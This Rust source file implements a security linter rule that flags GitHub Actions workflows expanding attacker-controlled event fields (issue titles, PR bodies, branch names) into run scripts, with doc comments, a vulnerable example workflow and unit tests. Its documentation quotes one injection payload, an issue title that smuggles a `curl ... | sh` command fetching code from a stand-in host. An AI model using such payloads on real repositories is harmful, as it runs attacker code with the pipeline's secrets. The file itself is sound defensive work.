//! ## What it checks
//! Every `${{ ... }}` expression in a step's `run:` script, and in the `with.script` of a step
//! that `uses: actions/github-script`, in workflows and in composite actions (`action.yml`
//! `runs.steps`). Each expression is parsed, and it fails when a value an outsider controls
//! flows into the text the expression expands to:
//! `github.event.issue.title`/`body`, `pull_request.title`/`body`, `comment.body`,
//! `review.body`, `review_comment.body`, `pages.*.page_name`, `head_commit.message`,
//! `head_commit.author.email`/`name`, `commits.*.message`, `commits.*.author.*`,
//! `pull_request.head.ref`/`label`/`repo.default_branch`, `discussion.title`/`body`,
//! `workflow_run.head_branch`, `workflow_run.head_commit.message` (all under
//! `github.event`), and `github.head_ref`; index syntax (`github.event['issue']['title']`)
//! and any letter case count the same.
//!
//! Only positions whose value reaches the output count: a context compared (`==`, `<`, ...),
//! negated (`!`), tested by `contains`/`startsWith`/`endsWith`, hashed by `hashFiles`, used as
//! the left side of `&&` or as a `case()` predicate, or used as a computed index yields a
//! boolean or a lookup, not the attacker's text. Arguments of `format`, `join`, `toJSON` and
//! `fromJSON`, both sides of `||`, the right side of `&&` and the values of `case()` do reach
//! it. Under `toJSON` a parent object (`toJSON(github.event.issue)`) is serialised with the
//! attacker's fields inside, so parents count there too; elsewhere an object expands to the
//! word `Object` and is harmless.
//!
//! Severity is high, and critical when the workflow runs on `pull_request_target`,
//! `issue_comment`, `issues`, `discussion` or `discussion_comment`: those run in the base
//! repository with its secrets and a write token, for events anyone can open.
//!
//! ## Why it matters (CC6.8, PI1.2)
//! `${{ }}` is expanded into the script text before the shell (or JavaScript) runs it, so an
//! issue titled `a"; curl -sSf https://evil.example/x | sh; "` runs the attacker's code in
//! the runner, with the job's token and secrets. Unauthorised code runs in the pipeline
//! (CC6.8) and the build's inputs are no longer what the repository says (PI1.2).
//!
//! ## Failing example
//! ```yaml
//! on: issues
//! jobs:
//!   triage:
//!     runs-on: ubuntu-latest
//!     steps:
//!       - run: echo "New issue - ${{ github.event.issue.title }}"
//! ```
//!
//! ## Passing example
//! ```yaml
//! on: issues
//! jobs:
//!   triage:
//!     runs-on: ubuntu-latest
//!     steps:
//!       - env:
//!           TITLE: ${{ github.event.issue.title }}
//!         run: echo "New issue - $TITLE"
//! ```
//!
//! ## Fix
//! Pass the value through the step's `env:` and read it as a quoted variable (`"$TITLE"` in
//! shell, `process.env.TITLE` in github-script): the value then stays data and is never
//! parsed as code.

use std::collections::HashMap;

use github_actions_expressions::call::Function;
use github_actions_expressions::context::Context;
use github_actions_expressions::literal::Literal;
use github_actions_expressions::op::BinOp;
use github_actions_expressions::{Expr, SpannedExpr};
use trustlint_engine::SourceFile;
use trustlint_engine::model::github_actions::{document_containing, interpolations, triggers};

use crate::prelude::*;

pub(crate) fn meta() -> Meta {
    Meta {
        id: "TL-GHA-003",
        name: "expression-injection-in-script",
        title: "Attacker-controlled expression expanded into a script",
        severity: Severity::High,
        criteria: &["CC6.8", "PI1.2"],
        help: "Pass the value through `env:` (e.g. `TITLE: ${{ github.event.issue.title }}`) and use \
               the quoted variable (\"$TITLE\") in the script instead of the expression.",
        checkov: &["CKV_GHA_2"],
        kics: &["20f14e1a-a899-4e79-9f09-b6a84cd4649b", "62ff6823-927a-427f-acf9-f1ea2932d616"],
        trivy: &[],
        other: &["zizmor: template-injection"],
        bindings: &[(Target::GithubActions, &["step"])],
    }
}

/// Contexts whose text anyone who can open an issue, a pull request, a comment, a wiki page
/// or push a branch to a fork controls. `*` matches any one key or index.
const ATTACKER_CONTROLLED: &[&str] = &[
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.pages.*.page_name",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.commits.*.message",
    "github.event.commits.*.author.*",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_commit.message",
    "github.head_ref",
];

/// Triggers that run with the base repository's secrets and a write token for events an
/// outsider can cause.
const PRIVILEGED_TRIGGERS: &[&str] =
    &["pull_request_target", "issue_comment", "issues", "discussion", "discussion_comment"];

pub(crate) fn check(resource: &Resource<'_>, file: &FileContext<'_>, out: &mut Outcome) {
    let Some(step) = resource.body else { return };
    let mut scripts: Vec<(&str, &Node)> = Vec::new();
    if let Some(run) = step.get("run") {
        scripts.push(("run", run));
    }
    if step.get("uses").and_then(Node::as_str).is_some_and(is_github_script)
        && let Some(script) = step.get_path("with.script")
    {
        scripts.push(("with.script", script));
    }
    if scripts.is_empty() {
        return;
    }
    let privileged = privileged_trigger(resource, file);
    for (field, node) in scripts {
        let Some(text) = node.as_str() else {
            if node.is_expr() {
                out.unknown();
            }
            continue;
        };
        // Where the search for each expression text stopped, in the value and in the file:
        // interpolations come in order, so each search resumes there and a script of
        // thousands of expressions is read once, not once per expression.
        let mut counted: HashMap<&str, (usize, usize)> = HashMap::new();
        let mut located: HashMap<&str, (usize, usize, Span)> = HashMap::new();
        for found in interpolations(text) {
            let raw = found.raw(text);
            let tainted = match tainted_contexts(found.inner) {
                Ok(tainted) => tainted,
                // GitHub rejects a workflow whose expression does not parse; this one cannot be judged.
                Err(_) => {
                    out.unknown();
                    continue;
                }
            };
            let Some(first) = tainted.first() else { continue };
            let occurrence = occurrences_before(text, raw, found.span.start, &mut counted);
            let span = locate_from(file.source, node, raw, occurrence, &mut located);
            let mut message = format!(
                "`{raw}` expands attacker-controlled `{first}` into the `{field}` script of `{}`",
                resource.address
            );
            if let Some(trigger) = privileged {
                message.push_str(&format!(" on `{trigger}`"));
            }
            let violation = out.fail(span, message);
            if privileged.is_some() {
                violation.severity(Severity::Critical);
            }
        }
    }
}

/// `actions/github-script` at any ref (owner and repository names are case-insensitive).
fn is_github_script(uses: &str) -> bool {
    let name = uses.split('@').next().unwrap_or(uses);
    name.eq_ignore_ascii_case("actions/github-script")
}

/// The first privileged trigger of the workflow the resource belongs to, if any. Steps of a
/// composite action have no trigger of their own.
fn privileged_trigger(resource: &Resource<'_>, file: &FileContext<'_>) -> Option<&'static str> {
    let root = document_containing(file.syntax.documents(), resource.span)?;
    let events = triggers(root);
    PRIVILEGED_TRIGGERS.iter().copied().find(|t| events.iter().any(|e| e == t))
}

/// The number of non-overlapping copies of `raw` in `text` that end by `end`, resuming from
/// where the last call for the same `raw` stopped (`end` never decreases between calls).
fn occurrences_before<'t>(text: &str, raw: &'t str, end: usize, cursors: &mut HashMap<&'t str, (usize, usize)>) -> usize {
    let (from, count) = cursors.entry(raw).or_insert((0, 0));
    while let Some(at) = text.get(*from..).and_then(|rest| rest.find(raw)) {
        let match_end = *from + at + raw.len();
        if match_end > end || raw.is_empty() {
            break;
        }
        *from = match_end;
        *count += 1;
    }
    *count
}

/// Where the `occurrence`-th copy of `raw` in a scalar's value sits in the file.
///
/// An expression is copied verbatim into the value of a plain scalar, of a quoted scalar
/// without escapes in it, and of a block scalar (`|` or `>`: folding only touches line
/// breaks, and an expression has none), so the same copy is found by counting occurrences in
/// the source of the node. A block scalar's header line is skipped: a comment there is not
/// part of the value. When the text is not found verbatim (escapes, a plain scalar folded
/// across lines) the whole node is the best place to point.
///
/// The search for `raw` resumes where the previous call for it stopped (`occurrence` never
/// decreases between calls for one `raw` and one node).
fn locate_from<'t>(
    source: &SourceFile,
    node: &Node,
    raw: &'t str,
    occurrence: usize,
    cursors: &mut HashMap<&'t str, (usize, usize, Span)>,
) -> Span {
    let slice = source.slice(node.span);
    let body_start = if slice.starts_with(['|', '>']) { slice.find('\n').map_or(slice.len(), |i| i + 1) } else { 0 };
    let Some(body) = slice.get(body_start..) else { return node.span };
    let (from, seen, last) = cursors.entry(raw).or_insert((0, 0, node.span));
    if raw.is_empty() {
        return node.span;
    }
    while *seen <= occurrence {
        let Some(at) = body.get(*from..).and_then(|rest| rest.find(raw)) else {
            // Not found verbatim: the node.
            return node.span;
        };
        let start = node.span.start + body_start + *from + at;
        *last = Span::new(start, start + raw.len());
        *from += at + raw.len();
        *seen += 1;
    }
    *last
}

/// [`locate_from`] without resuming: the reference its results are checked against.
#[cfg(test)]
fn locate(source: &SourceFile, node: &Node, raw: &str, occurrence: usize) -> Span {
    let slice = source.slice(node.span);
    let body_start = if slice.starts_with(['|', '>']) { slice.find('\n').map_or(slice.len(), |i| i + 1) } else { 0 };
    slice
        .get(body_start..)
        .and_then(|body| body.match_indices(raw).nth(occurrence))
        .map_or(node.span, |(at, _)| {
            let start = node.span.start + body_start + at;
            Span::new(start, start + raw.len())
        })
}

/// The error of an expression that does not parse.
#[derive(Debug)]
pub(crate) struct Unparsable;

/// The attacker-controlled contexts (as written) whose value reaches what `expression`
/// expands to. `expression` is the text between `${{` and `}}`.
pub(crate) fn tainted_contexts(expression: &str) -> Result<Vec<&str>, Unparsable> {
    let parsed = Expr::parse(expression).map_err(|_| Unparsable)?;
    let mut found = Vec::new();
    collect(&parsed, Flow::Text, &mut found);
    Ok(found)
}

/// How a value reaches the output: as text, where an object renders as the word `Object`, or
/// serialised by `toJSON`, where an object carries every field inside it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Flow {
    Text,
    Serialized,
}

/// Walk the positions of `expr` whose value reaches its result. The parser bounds nesting
/// (GitHub's own limit of 50 levels), which bounds this recursion too.
fn collect<'s>(expr: &SpannedExpr<'s>, flow: Flow, found: &mut Vec<&'s str>) {
    match &expr.inner {
        Expr::Context(context) => match context.parts.first().map(|head| &head.inner) {
            Some(Expr::Identifier(_)) => {
                let reaches = match classify(context) {
                    Some(Relation::Itself) => true,
                    Some(Relation::Parent) => flow == Flow::Serialized,
                    None => false,
                };
                if reaches {
                    found.push(expr.origin.raw);
                }
            }
            // `fromJSON(x).field`: whatever the head yields is indexed into, so the
            // attacker's text in the head can come out.
            Some(_) => {
                if let Some(head) = context.parts.first() {
                    collect(head, Flow::Serialized, found);
                }
            }
            None => {}
        },
        Expr::Call(call) => match call.func {
            Function::ToJSON => call.args.iter().for_each(|a| collect(a, Flow::Serialized, found)),
            Function::FromJSON | Function::Format | Function::Join => {
                call.args.iter().for_each(|a| collect(a, flow, found));
            }
            // case(pred1, val1, pred2, val2, ..., default): predicates are booleans.
            Function::Case => {
                let values = call.args.iter().skip(1).step_by(2).chain(call.args.last());
                values.for_each(|a| collect(a, flow, found));
            }
            // Booleans and hashes.
            Function::Contains
            | Function::StartsWith
            | Function::EndsWith
            | Function::HashFiles
            | Function::Success
            | Function::Always
            | Function::Cancelled
            | Function::Failure => {}
        },
        Expr::BinExpr(bin) => match bin.op {
            // `a && b` yields `b` or a falsy `a`: `a` only decides.
            BinOp::And => collect(&bin.rhs, flow, found),
            BinOp::Or => {
                collect(&bin.lhs, flow, found);
                collect(&bin.rhs, flow, found);
            }
            // Comparisons yield booleans.
            BinOp::Eq | BinOp::Neq | BinOp::Gt | BinOp::Ge | BinOp::Lt | BinOp::Le => {}
        },
        // `!x` is a boolean; literals, `*` and lone identifiers carry no event data.
        Expr::UnExpr { .. } | Expr::Literal(_) | Expr::Star | Expr::Identifier(_) | Expr::Index(_) => {}
    }
}

/// How a context relates to the attacker-controlled list.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Relation {
    /// It is a listed value, or something inside one.
    Itself,
    /// It is an object that holds a listed value (`github.event.issue`).
    Parent,
}

/// One key of a context path, as far as matching goes.
#[derive(Debug, PartialEq)]
enum Key {
    /// A name (`issue`, `['issue']`), lowercased: context names are case-insensitive.
    Name(String),
    /// A numeric index (`commits[0]`): an element of a list, never an object key.
    Element,
    /// `*` or a computed index (`event[inputs.field]`): could be any key.
    Any,
}

fn key_of(part: &Expr<'_>) -> Key {
    match part {
        Expr::Identifier(name) => Key::Name(name.as_str().to_ascii_lowercase()),
        Expr::Index(index) => match &index.inner {
            Expr::Literal(Literal::String(name)) => Key::Name(name.to_ascii_lowercase()),
            Expr::Literal(Literal::Number(_)) => Key::Element,
            Expr::Star => Key::Any,
            _ => Key::Any,
        },
        _ => Key::Any,
    }
}

/// The strongest relation between `context` and any attacker-controlled pattern.
fn classify(context: &Context<'_>) -> Option<Relation> {
    let keys: Vec<Key> = context.parts.iter().map(|p| key_of(&p.inner)).collect();
    let mut best = None;
    for pattern in ATTACKER_CONTROLLED {
        let pattern: Vec<&str> = pattern.split('.').collect();
        let agrees = keys.iter().zip(&pattern).all(|(key, want)| match key {
            _ if *want == "*" => true,
            Key::Name(name) => name == want,
            Key::Element => false,
            Key::Any => true,
        });
        if !agrees {
            continue;
        }
        if keys.len() >= pattern.len() {
            return Some(Relation::Itself);
        }
        best = Some(Relation::Parent);
    }
    best
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Whether an expression (between `${{` and `}}`) expands attacker-controlled text.
    fn dangerous(expression: &str) -> bool {
        !tainted_contexts(expression).expect("the expression parses").is_empty()
    }

    #[test]
    fn expressions_that_expand_attacker_text() {
        for expression in [
            "github.event.issue.title",
            " github.event.issue.body ",
            "github.event.pull_request.title",
            "github.event.pull_request.body",
            "github.event.comment.body",
            "github.event.review.body",
            "github.event.review_comment.body",
            "github.event.pages[0].page_name",
            "github.event.head_commit.message",
            "github.event.head_commit.author.email",
            "github.event.head_commit.author.name",
            "github.event.commits[0].message",
            "github.event.commits.*.message",
            "github.event.commits[1].author.username",
            "github.event.pull_request.head.ref",
            "github.event.pull_request.head.label",
            "github.event.pull_request.head.repo.default_branch",
            "github.event.discussion.title",
            "github.event.discussion.body",
            "github.event.workflow_run.head_branch",
            "github.event.workflow_run.head_commit.message",
            "github.head_ref",
            // Index syntax and letter case do not hide a context.
            "github.event['issue']['title']",
            "github['event'].pull_request['body']",
            "GitHub.Event.Issue.Title",
            // A computed key could be any key.
            "github.event[inputs.kind].title",
            // Functions whose result carries their arguments.
            "format('Title: {0}', github.event.issue.title)",
            "toJSON(github.event.issue.title)",
            "join(github.event.commits.*.message, ', ')",
            "fromJSON(github.event.comment.body)",
            "fromJSON(github.event.comment.body).command",
            // The parent object, serialised.
            "toJSON(github.event.issue)",
            "toJSON(github.event)",
            "toJSON(github)",
            // Either side of || can be the result; the right side of && is.
            "github.head_ref || github.ref_name",
            "github.ref_name || github.head_ref",
            "github.event_name == 'pull_request' && github.head_ref",
            "github.event_name == 'pull_request' && github.head_ref || 'main'",
            // case(): a value position.
            "case(github.event_name == 'issues', github.event.issue.title, 'none')",
            "case(true, 'a', github.event_name == 'x', 'b', github.event.issue.body)",
            "format('{0}', github.event.issue.title == 'x' || github.event.issue.body)",
            // Parentheses change nothing; a parenthesised head is still indexed into.
            "(github.event.issue.title)",
            "(github.event.issue || github.event.pull_request).title",
        ] {
            assert!(dangerous(expression), "{expression} should be dangerous");
        }
    }

    #[test]
    fn expressions_that_do_not() {
        for expression in [
            "github.actor",
            "github.ref_name",
            "github.sha",
            "github.event.issue.number",
            "github.event.pull_request.head.sha",
            "github.event.pull_request.number",
            "secrets.TOKEN",
            "inputs.title",
            "env.TITLE",
            "steps.meta.outputs.title",
            "'a literal'",
            // Tested, compared or negated: a boolean comes out.
            "contains(github.event.issue.title, 'bug')",
            "startsWith(github.head_ref, 'release/')",
            "endsWith(github.event.pull_request.title, '!')",
            "github.event.issue.title == 'x'",
            "github.head_ref != ''",
            "!github.event.issue.body",
            "github.event.comment.body && 'yes'",
            "contains(github.event.comment.body, '/deploy') && 'deploy' || 'skip'",
            "hashFiles(github.event.issue.title)",
            "case(github.event.issue.title == 'x', 'a', 'b')",
            // An object outside toJSON renders as the word `Object`.
            "github.event.issue",
            "format('{0}', github.event)",
            // A numeric index is a list element, never an object key.
            "github.event[0].title",
            // A lookup keyed by attacker text yields the looked-up value, not the key.
            "fromJSON('{\"a\": 1}')[github.event.issue.title]",
            "toJSON(github.event.issue.number)",
        ] {
            assert!(!dangerous(expression), "{expression} should not be dangerous");
        }
    }

    #[test]
    fn the_tainted_context_is_reported_as_written() {
        let found = tainted_contexts("format('{0} {1}', github.sha, github.event['issue'].title)").unwrap();
        assert_eq!(found, vec!["github.event['issue'].title"]);
    }

    #[test]
    fn unparsable_expressions_are_an_error() {
        assert!(tainted_contexts("github.event.issue.title ==").is_err());
        assert!(tainted_contexts("unknownfn(github.head_ref)").is_err());
        assert!(tainted_contexts("").is_err());
    }

    fn scalar(source: &SourceFile, needle: &str, end_at: &str) -> Node {
        let start = source.text.find(needle).unwrap();
        let end = source.text[start..].find(end_at).map_or(source.text.len(), |i| start + i);
        Node::new(Span::new(start, end), Value::String(String::new()))
    }

    #[test]
    fn resumed_searches_agree_with_fresh_ones() {
        let text = "run: echo ${{ a }} ${{ b }} ${{ a }}${{ a }} x ${{ b }}\n";
        let source = SourceFile::new("w.yml", text);
        let node = scalar(&source, "echo", "\n");
        let value = source.slice(node.span);
        let mut counted = HashMap::new();
        let mut located = HashMap::new();
        for found in interpolations(value) {
            let raw = found.raw(value);
            let expected = value[..found.span.start].matches(raw).count();
            let occurrence = occurrences_before(value, raw, found.span.start, &mut counted);
            assert_eq!(occurrence, expected, "{raw} at {}", found.span.start);
            assert_eq!(
                locate_from(&source, &node, raw, occurrence, &mut located),
                locate(&source, &node, raw, occurrence)
            );
        }
    }

    #[test]
    fn locate_finds_the_expression_in_each_scalar_style() {
        let text = "run: echo ${{ a }} ${{ a }}\nq: 'x ${{ a }}'\nb: | # ${{ a }}\n  one ${{ a }}\n  two ${{ a }}\nend: 1\n";
        let source = SourceFile::new("w.yml", text);
        // Plain scalar: the second copy.
        let plain = scalar(&source, "echo", "\n");
        let at = locate(&source, &plain, "${{ a }}", 1);
        assert_eq!(at.start, text.find("${{ a }} ${{ a }}").unwrap() + 9);
        assert_eq!(source.slice(at), "${{ a }}");
        // Quoted scalar.
        let quoted = scalar(&source, "'x", "\n");
        assert_eq!(locate(&source, &quoted, "${{ a }}", 0).start, text.find("'x ").unwrap() + 3);
        // Block scalar: the header comment is skipped; the first copy is on line 4.
        let block = scalar(&source, "| #", "end:");
        let first = locate(&source, &block, "${{ a }}", 0);
        assert_eq!(source.location(first.start).line, 4);
        let second = locate(&source, &block, "${{ a }}", 1);
        assert_eq!(source.location(second.start).line, 5);
        // Not found verbatim: the node.
        assert_eq!(locate(&source, &block, "${{ b }}", 0), block.span);
    }

    #[test]
    fn github_script_is_recognised_at_any_ref() {
        assert!(is_github_script("actions/github-script@v7"));
        assert!(is_github_script("Actions/GitHub-Script@60a0d83039c74a4aee543508d2ffcb1c3799cdea"));
        assert!(!is_github_script("actions/checkout@v4"));
        assert!(!is_github_script("someone/actions-github-script@v1"));
    }

    /// A one-step workflow, with spans taken from where each piece sits in `text`.
    fn one_step_workflow(text: &str, trigger: &str, run: &str) -> Node {
        let at = |needle: &str| {
            let start = text.find(needle).expect("the needle is in the text");
            Span::new(start, start + needle.len())
        };
        let entry = |key: &str, value: Node| trustlint_engine::Entry { key: key.into(), key_span: at(key), value };
        let run_node = Node::new(at(run), Value::String(run.into()));
        let step = Node::new(run_node.span, Value::Map(vec![entry("run", run_node)]));
        let steps = Node::new(step.span, Value::List(vec![step]));
        let job = Node::new(steps.span, Value::Map(vec![entry("steps", steps)]));
        let jobs = Node::new(job.span, Value::Map(vec![entry("t", job)]));
        let on = Node::new(at(trigger), Value::String(trigger.into()));
        Node::new(Span::new(0, text.len()), Value::Map(vec![entry("on", on), entry("jobs", jobs)]))
    }

    fn run_check(text: &str, trigger: &str, run: &str) -> (SourceFile, Outcome) {
        let source = SourceFile::new(".github/workflows/w.yml", text);
        let root = one_step_workflow(text, trigger, run);
        let syntax = Syntax::Yaml(trustlint_engine::parse::yaml::YamlStream {
            documents: vec![root],
            comments: Vec::new(),
        });
        let resources = trustlint_engine::model::github_actions::resources(syntax.documents(), false);
        let step = resources.iter().find(|r| r.kind == "step").expect("one step");
        let mut out = Outcome::default();
        check(step, &FileContext { source: &source, syntax: &syntax, scope: &Default::default() }, &mut out);
        (source, out)
    }

    #[test]
    fn check_points_at_each_expression_and_grades_by_trigger() {
        let run = "echo ${{ github.sha }} ${{ github.event.issue.title }}";
        let text = format!("on: issues\njobs:\n  t:\n    steps:\n      - run: {run}\n");
        let (source, out) = run_check(&text, "issues", run);
        assert_eq!(out.violations.len(), 1);
        let violation = &out.violations[0];
        assert_eq!(source.slice(violation.span), "${{ github.event.issue.title }}");
        assert_eq!(violation.severity, Some(Severity::Critical));

        let text = text.replace("on: issues", "on: push");
        let (_, out) = run_check(&text, "push", run);
        assert_eq!(out.violations.len(), 1);
        assert_eq!(out.violations[0].severity, None, "the rule's default, high");
    }

    #[test]
    fn check_is_unknown_for_an_unparsable_expression() {
        let run = "echo ${{ github.event.issue.title == }}";
        let text = format!("on: push\njobs:\n  t:\n    steps:\n      - run: {run}\n");
        let (_, out) = run_check(&text, "push", run);
        assert!(out.violations.is_empty());
        assert!(out.unknown);
    }
}
